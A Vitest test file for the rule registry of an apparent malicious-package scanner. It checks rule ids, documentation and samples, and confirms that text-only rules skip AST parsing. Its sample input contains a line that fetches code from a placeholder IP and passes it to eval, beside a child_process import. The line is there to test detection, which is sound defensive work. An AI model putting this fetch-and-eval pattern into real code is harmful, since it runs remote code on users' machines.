import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { FileContext, PackageInfo } from '../types.js';
import { parseSource } from '../parse.js';
import { rules } from './index.js';

// The registry is the only list of rules: sorted, keyed by each rule's own id (its folder name),
// and every rule folder has its docs page, tests and samples.
describe('rule registry', () => {
  const ids = Object.keys(rules);
  const folders = readdirSync(__dirname, { withFileTypes: true })
    .filter((d) => d.isDirectory() && !d.name.startsWith('_'))
    .map((d) => d.name)
    .sort();

  it('is sorted and keyed by each rule id', () => {
    expect(ids).toEqual([...ids].sort());
    for (const [id, rule] of Object.entries(rules)) expect(rule.meta.id).toBe(id);
  });

  it('lists every rule folder', () => {
    expect(ids).toEqual(folders);
  });

  it.each(ids)('%s has an id of the agreed shape, a README, tests and samples', (id) => {
    expect(id).toMatch(/^[a-z0-9]+(-[a-z0-9]+)*$/);
    const rule = rules[id]!;
    expect(rule.meta.description.length).toBeGreaterThan(10);
    expect(rule.create ?? rule.checkPackage).toBeDefined();
    for (const file of ['README.md', 'rule.test.ts', 'samples']) expect(existsSync(join(__dirname, id, file)), `${id}/${file}`).toBe(true);
  });

  it.each(ids.filter((id) => rules[id]!.meta.textOnly))('%s, text-only, asks for no AST', (id) => {
    const text = "const a = require('child_process');\nfetch('http://192.0.2.1/x').then(eval);\n";
    const pkg: PackageInfo = { name: 'p', version: '1.0.0', manifest: {}, files: ['index.js'], executables: [] };
    let asked = false;
    const ctx: FileContext = {
      pkg,
      file: { path: 'index.js', text },
      get ast() {
        asked = true;
        return parseSource(text, 'index.js').program;
      },
      report: () => {},
      source: (n) => text.slice(n.start, n.end),
    };
    const visitor = rules[id]!.create!(ctx);
    expect(Object.keys(visitor)).toEqual(['onText']);
    expect(asked).toBe(false);
  });
});
